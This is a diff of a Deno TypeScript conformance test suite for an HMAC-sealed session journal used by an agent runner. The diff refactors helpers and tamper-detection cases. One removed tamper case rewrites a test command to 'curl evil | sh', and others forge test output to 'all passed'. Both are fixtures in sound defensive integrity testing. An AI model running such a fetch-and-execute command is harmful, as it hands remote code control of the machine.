@@ -8,16 +8,12 @@
  */
 import "../_session_key.ts";
 import assert from "node:assert/strict";
-import { createHash, createHmac } from "node:crypto";
+import { createHash } from "node:crypto";
 import { openStorage } from "../../lib/storage/open_storage.ts";
 import { StorageError } from "../../lib/storage/storage_error.ts";
 import { SessionError } from "../../lib/persist/session_error.ts";
-import {
-  runStateOf,
-  saveSnapshot,
-  SessionStore,
-  verifySession,
-} from "../../lib/persist/session_store.ts";
+import { saveSnapshot, SessionStore } from "../../lib/persist/session_store.ts";
+import { runStateOf, verifySession } from "../../lib/persist/session_verify.ts";
 import { sliceSessionHooks } from "../../lib/persist/slice_session.ts";
 import { readJournal } from "../../lib/persist/_journal.ts";
 import { McpSession } from "../../lib/persist/mcp_session.ts";
@@ -25,11 +21,17 @@ import { sha256Hex } from "../../lib/store/digest.ts";
 import { runSlice } from "../../lib/slice/run.ts";
 import { ScriptedProvider } from "../../lib/testing/scripted_provider.ts";
 import {
+  assertKeptSteps,
+  CHANGED_RECORDS,
+  FORGED_OUTPUT,
+  killWriterAfter,
   type Layout,
+  pointAtForged,
+  REORDERED_RECORDS,
   RUN,
   sampleRun,
+  seal,
   tempLayout,
-  TEST_OUTPUT,
 } from "../persist/_session.ts";
 
 // deno-lint-ignore no-explicit-any -- free-form edits of parsed JSON
@@ -74,6 +76,31 @@ function isCode(code: string, message?: RegExp) {
 
 const SCRIPT_DIR = new URL(".", import.meta.url).pathname;
 
+/**
+ * A helper script of these tests (relative to this folder) in a process of
+ * its own, with a store's permissions; it reports on its standard output.
+ */
+function helperProcess(
+  script: string,
+  args: readonly string[],
+  stdin: "null" | "piped" = "null",
+): Deno.ChildProcess {
+  return new Deno.Command(Deno.execPath(), {
+    args: [
+      "run",
+      "--allow-read",
+      "--allow-write",
+      "--allow-env",
+      "--allow-net=127.0.0.1",
+      `${SCRIPT_DIR}${script}`,
+      ...args,
+    ],
+    stdin,
+    stdout: "piped",
+    stderr: "inherit",
+  }).spawn();
+}
+
 /** Runs the whole suite against one back-end. */
 export function conformance(backend: Backend): void {
   const test = (name: string, fn: (t: Deno.TestContext) => Promise<void>) =>
@@ -111,9 +138,8 @@ export function conformance(backend: Backend): void {
   });
 
   test("a store opened read-only reads what was written and refuses every write, changing nothing", async () => {
-    await using layout = await tempLayout();
-    const url = await backend.url(layout.base);
-    const name = fresh("readonly");
+    await using layout = await freshPlace("readonly");
+    const { url, name } = layout;
     const bytes = new TextEncoder().encode("kept body\n");
     const writer = await openStorage(url);
     try {
@@ -146,9 +172,8 @@ export function conformance(backend: Backend): void {
   });
 
   test("an append at a position another writer took is a typed conflict that writes nothing", async () => {
-    await using layout = await tempLayout();
-    const url = await backend.url(layout.base);
-    const name = fresh("conflict");
+    await using layout = await freshPlace("conflict");
+    const { url, name } = layout;
     const one = await openStorage(url);
     const two = await openStorage(url);
     try {
@@ -194,9 +219,8 @@ export function conformance(backend: Backend): void {
   });
 
   test("a lease expires, is renewed explicitly, and its loss is typed", async () => {
-    await using layout = await tempLayout();
-    const url = await backend.url(layout.base);
-    const name = fresh("lease");
+    await using layout = await freshPlace("lease");
+    const { url, name } = layout;
     const store = await openStorage(url);
     try {
       const slot = store.session(name);
@@ -223,6 +247,40 @@ export function conformance(backend: Backend): void {
       await store.close();
     }
   });
+
+  /** A temp layout, a store of this back-end in it and a fresh session name. */
+  async function freshPlace(
+    tag: string,
+  ): Promise<Layout & { url: string; name: string }> {
+    const layout = await tempLayout();
+    return { ...layout, url: await backend.url(layout.base), name: fresh(tag) };
+  }
+
+  /** How each server of a place's shared session opens it. */
+  function sharedSession(place: Layout & { url: string }) {
+    return {
+      root: place.workspace,
+      keyFile: place.keyFile,
+      store: place.url,
+      shared: true,
+    };
+  }
+
+  /** Stores `text` through a server of a shared session, complete. */
+  function admitText(session: McpSession, text: string, origin: string) {
+    const bytes = new TextEncoder().encode(text);
+    return session.admit({
+      bytes,
+      sha256: sha256Hex(bytes),
+      origin,
+      capture: "complete",
+    });
+  }
+
+  /** A session's journal lines as stored, parsed. */
+  async function journalOf(url: string, name: string): Promise<Json[]> {
+    return (await backend.readRaw(url, name)).map((l) => JSON.parse(l));
+  }
 
   /** The sample run saved stepwise (header + 3 steps) in a store. */
   async function savedSample(
@@ -251,34 +309,12 @@ export function conformance(backend: Backend): void {
   }
 
   test("every tamper variant of the journal is refused before any step, naming the record", async (t) => {
-    const cases: [string, number, (r: Json[]) => Json[] | void][] = [
-      ["a failed test record rewritten to exit_code 0", 2, (r) => {
-        r[2]!.records[0].report.exit_code = 0;
-      }],
-      ["a changed test command", 0, (r) => {
-        r[0]!.test.command = ["sh", "-c", "curl evil | sh"];
-      }],
-      ["a widened workspace", 0, (r) => {
-        r[0]!.workspace = "/";
-      }],
-      ["a raised step budget", 0, (r) => {
-        r[0]!.max_steps = 1_000;
-      }],
-      ["counters rolled back", 3, (r) => {
-        r[3]!.counters.model_calls = 0;
-      }],
-      ["two records swapped", 1, (r) => [r[0]!, r[2]!, r[1]!, r[3]!]],
-      ["a record dropped", 2, (r) => [r[0]!, r[1]!, r[3]!]],
-      ["a record duplicated", 2, (r) => [r[0]!, r[1]!, r[1]!, r[2]!, r[3]!]],
-      ["the header dropped", 0, (r) => [r[1]!, r[2]!, r[3]!]],
-    ];
+    const cases = [...CHANGED_RECORDS, ...REORDERED_RECORDS];
     for (const [what, bad, edit] of cases) {
       await t.step(what, async () => {
         await using layout = await tempLayout();
         const { url, name } = await savedSample(layout);
-        const raw = (await backend.readRaw(url, name)).map((l) =>
-          JSON.parse(l) as Json
-        );
+        const raw = await journalOf(url, name);
         const edited = edit(raw) ?? raw;
         await backend.writeRaw(
           url,
@@ -306,24 +342,16 @@ export function conformance(backend: Backend): void {
       async () => {
         await using layout = await tempLayout();
         const { url, name } = await savedSample(layout);
-        const forged = TEST_OUTPUT.replace("expected 3, got 4", "all passed");
-        const digest = sha(forged);
+        const digest = sha(FORGED_OUTPUT);
         const store = await openStorage(url);
         await store.session(name).bodies.put(
           digest,
-          new TextEncoder().encode(forged),
+          new TextEncoder().encode(FORGED_OUTPUT),
         );
         await store.close();
-        const raw = (await backend.readRaw(url, name)).map((l) =>
-          JSON.parse(l) as Json
-        );
-        const entry = raw[2]!.results["result-3"];
-        entry.sha256 = digest;
-        entry.utf8_bytes = new TextEncoder().encode(forged).length;
-        entry.source.persisted = `tool-results/${digest}.txt`;
-        raw[2]!.records[0].report.output.sha256 = digest;
-        raw[2]!.records[0].report.exit_code = 0;
-        await backend.writeRaw(url, name, raw.map((r) => JSON.stringify(r)));
+        const raw = await journalOf(url, name);
+        const forged = pointAtForged(raw, digest);
+        await backend.writeRaw(url, name, forged.map((r) => JSON.stringify(r)));
         await assert.rejects(
           SessionStore.open(name, { keyFile: layout.keyFile, store: url }),
           isCode("session_tampered", /record 2 /),
@@ -348,9 +376,7 @@ export function conformance(backend: Backend): void {
       async () => {
         await using layout = await tempLayout();
         const { url, name } = await savedSample(layout);
-        const raw = (await backend.readRaw(url, name)).map((l) =>
-          JSON.parse(l) as Json
-        );
+        const raw = await journalOf(url, name);
         const digest = raw[2]!.results["result-3"].sha256 as string;
         await backend.deleteBodyRaw(url, name, digest);
         const session = await SessionStore.open(name, {
@@ -379,9 +405,8 @@ export function conformance(backend: Backend): void {
   });
 
   test("a slice stopped by its step budget resumes with the same ids and digests", async () => {
-    await using layout = await tempLayout();
-    const url = await backend.url(layout.base);
-    const name = fresh("slice");
+    await using layout = await freshPlace("slice");
+    const { url, name } = layout;
     const run = {
       intent: "Read the readme",
       policy: "bounded",
@@ -395,18 +420,22 @@ export function conformance(backend: Backend): void {
       run,
       store: url,
     });
-    const first = await runSlice(
-      {
+    /** The slice over the session, answered by `replies`. */
+    const slice = (
+      maxSteps: number,
+      replies: ConstructorParameters<typeof ScriptedProvider>[0],
+      hooks: ReturnType<typeof sliceSessionHooks>,
+    ) =>
+      runSlice({
         intent: run.intent,
         workspace: layout.workspace,
-        maxSteps: 1,
-        provider: new ScriptedProvider([
-          { arguments: { action: "repository.inspect" } },
-          { arguments: { paths: ["README.md"] } },
-        ]),
-      },
-      { contextPolicy: "bounded", session: sliceSessionHooks(session) },
-    );
+        maxSteps,
+        provider: new ScriptedProvider(replies),
+      }, { contextPolicy: "bounded", session: hooks });
+    const first = await slice(1, [
+      { arguments: { action: "repository.inspect" } },
+      { arguments: { paths: ["README.md"] } },
+    ], sliceSessionHooks(session));
     await session.close();
     assert.equal(first.stop, "step_budget");
     const reopened = await SessionStore.open(name, {
@@ -424,21 +453,10 @@ export function conformance(backend: Backend): void {
       isCode("session_locked"),
     );
     await reopened.updateSettings({ maxSteps: 3, overrides: {} });
-    const second = await runSlice(
-      {
-        intent: run.intent,
-        workspace: layout.workspace,
-        maxSteps: 3,
-        provider: new ScriptedProvider([
-          { arguments: { action: "slice.complete" } },
-          { arguments: { summary: "Read it" } },
-        ]),
-      },
-      {
-        contextPolicy: "bounded",
-        session: sliceSessionHooks(reopened, { resume: loaded }),
-      },
-    );
+    const second = await slice(3, [
+      { arguments: { action: "slice.complete" } },
+      { arguments: { summary: "Read it" } },
+    ], sliceSessionHooks(reopened, { resume: loaded }));
     await reopened.close();
     assert.equal(second.stop, "completed");
     const done = await verifySession(name, {
@@ -458,54 +476,19 @@ export function conformance(backend: Backend): void {
   });
 
   test("a writer killed during its appends leaves every acknowledged step, whole, and the next run takes the session over at once", async () => {
-    await using layout = await tempLayout();
-    const url = await backend.url(layout.base);
-    const name = fresh("killed");
-    const child = new Deno.Command(Deno.execPath(), {
-      args: [
-        "run",
-        "--allow-read",
-        "--allow-write",
-        "--allow-run",
-        "--allow-env",
-        "--allow-net=127.0.0.1",
-        `${SCRIPT_DIR}../persist/_kill_writer.ts`,
-        name,
-        layout.workspace,
-        layout.keyFile,
-        url,
-      ],
-      stdin: "null",
-      stdout: "piped",
-      stderr: "inherit",
-    }).spawn();
-    let acked = 0;
-    let text = "";
-    const reader = child.stdout.pipeThrough(new TextDecoderStream())
-      .getReader();
-    while (acked < 4) {
-      const { value, done } = await reader.read();
-      if (done) break;
-      text += value;
-      acked = text.split("\n").filter((l) => l.startsWith("acked")).length;
-    }
-    await new Promise((resolve) => setTimeout(resolve, 2));
-    child.kill("SIGKILL");
-    await child.status;
-    await reader.cancel();
+    await using layout = await freshPlace("killed");
+    const { url, name } = layout;
+    const acked = await killWriterAfter(4, 2, [
+      name,
+      layout.workspace,
+      layout.keyFile,
+      url,
+    ], true);
     const verified = await verifySession(name, {
       keyFile: layout.keyFile,
       store: url,
     });
-    assert.ok(
-      verified.state.steps >= acked,
-      `${verified.state.steps} < ${acked}`,
-    );
-    assert.deepEqual(
-      runStateOf(verified).records.map((r) => r.sequence),
-      Array.from({ length: verified.state.steps }, (_, i) => i + 1),
-    );
-    assert.equal(verified.results.length, verified.state.steps);
+    assertKeptSteps(verified, acked);
     // Its holder is provably gone (its process, on this machine; on
     // PostgreSQL its connection and the lock with it): no wait for the
     // lease's minute, no session_locked.
@@ -524,15 +507,9 @@ export function conformance(backend: Backend): void {
   });
 
   test("two servers of a shared session storing at once give every id once, read each other's results with their digests, and the session reopens valid", async () => {
-    await using layout = await tempLayout();
-    const url = await backend.url(layout.base);
-    const name = fresh("shared");
-    const options = {
-      root: layout.workspace,
-      keyFile: layout.keyFile,
-      store: url,
-      shared: true,
-    };
+    await using layout = await freshPlace("shared");
+    const { name } = layout;
+    const options = sharedSession(layout);
     const servers = [
       await McpSession.open(name, options),
       await McpSession.open(name, options),
@@ -542,13 +519,11 @@ export function conformance(backend: Backend): void {
       // Calls arrive at both at once, and a little apart.
       await Promise.all(Array.from({ length: 80 }, async (_, i) => {
         await new Promise((resolve) => setTimeout(resolve, i % 7));
-        const bytes = new TextEncoder().encode(`result ${i}\n`.repeat(40));
-        const result = await servers[i % 2]!.admit({
-          bytes,
-          sha256: sha256Hex(bytes),
-          origin: `inspect_files ${i}.txt`,
-          capture: "complete",
-        });
+        const result = await admitText(
+          servers[i % 2]!,
+          `result ${i}\n`.repeat(40),
+          `inspect_files ${i}.txt`,
+        );
         stored.push(result);
       }));
       assert.equal(new Set(stored.map((r) => r.id)).size, 80);
@@ -568,44 +543,25 @@ export function conformance(backend: Backend): void {
   });
 
   test("a server of a shared session killed while appending costs the session nothing: every acknowledged result reads back through the other, which goes on storing", async () => {
-    await using layout = await tempLayout();
-    const url = await backend.url(layout.base);
-    const name = fresh("victim");
-    const options = {
-      root: layout.workspace,
-      keyFile: layout.keyFile,
-      store: url,
-      shared: true,
-    };
+    await using layout = await freshPlace("victim");
+    const { url, name } = layout;
+    const options = sharedSession(layout);
     const survivor = await McpSession.open(name, options);
     const acked = new Map<string, string>();
     const store = async (n: number) => {
-      const bytes = new TextEncoder().encode(`survivor ${n}\n`.repeat(300));
-      const result = await survivor.admit({
-        bytes,
-        sha256: sha256Hex(bytes),
-        origin: "inspect_files survivor.txt",
-        capture: "complete",
-      });
+      const result = await admitText(
+        survivor,
+        `survivor ${n}\n`.repeat(300),
+        "inspect_files survivor.txt",
+      );
       acked.set(result.id, result.sha256);
     };
-    const victim = new Deno.Command(Deno.execPath(), {
-      args: [
-        "run",
-        "--allow-read",
-        "--allow-write",
-        "--allow-env",
-        "--allow-net=127.0.0.1",
-        `${SCRIPT_DIR}../persist/_kill_admitter.ts`,
-        url,
-        name,
-        layout.workspace,
-        layout.keyFile,
-      ],
-      stdin: "null",
-      stdout: "piped",
-      stderr: "inherit",
-    }).spawn();
+    const victim = helperProcess("../persist/_kill_admitter.ts", [
+      url,
+      name,
+      layout.workspace,
+      layout.keyFile,
+    ]);
     try {
       let text = "";
       const reader = victim.stdout.pipeThrough(new TextDecoderStream())
@@ -647,9 +603,8 @@ export function conformance(backend: Backend): void {
   });
 
   test("two processes race to append at one position: one wins, one gets a typed conflict, the chain stays valid", async () => {
-    await using layout = await tempLayout();
-    const url = await backend.url(layout.base);
-    const name = fresh("race");
+    await using layout = await freshPlace("race");
+    const { url, name } = layout;
     const key = await keyOf(layout.keyFile);
     const store = await openStorage(url);
     const slot = store.session(name);
@@ -657,23 +612,7 @@ export function conformance(backend: Backend): void {
     const header = seal(key, "", { seq: 0, type: "header" });
     await slot.journal.append(0, [header.text]);
     const racers = ["a", "b"].map((who) =>
-      new Deno.Command(Deno.execPath(), {
-        args: [
-          "run",
-          "--allow-read",
-          "--allow-write",
-          "--allow-env",
-          "--allow-net=127.0.0.1",
-          `${SCRIPT_DIR}_racer.ts`,
-          url,
-          name,
-          layout.keyFile,
-          who,
-        ],
-        stdin: "piped",
-        stdout: "piped",
-        stderr: "inherit",
-      }).spawn()
+      helperProcess("_racer.ts", [url, name, layout.keyFile, who], "piped")
     );
     const readers = racers.map((r) =>
       r.stdout.pipeThrough(new TextDecoderStream()).getReader()
@@ -718,17 +657,4 @@ export async function keyOf(file: string): Promise<Uint8Array> {
     "../../lib/persist/_session_key.ts"
   );
   return await loadSessionKey(file);
-}
-
-/** Seals a record the way the journal does. */
-export function seal(
-  key: Uint8Array,
-  previous: string,
-  value: Record<string, unknown>,
-): { text: string; mac: string } {
-  const body = JSON.stringify(value);
-  const mac = createHmac("sha256", key).update(`${previous}\n${body}`).digest(
-    "hex",
-  );
-  return { text: `${body.slice(0, -1)},"mac":"${mac}"}`, mac };
 }
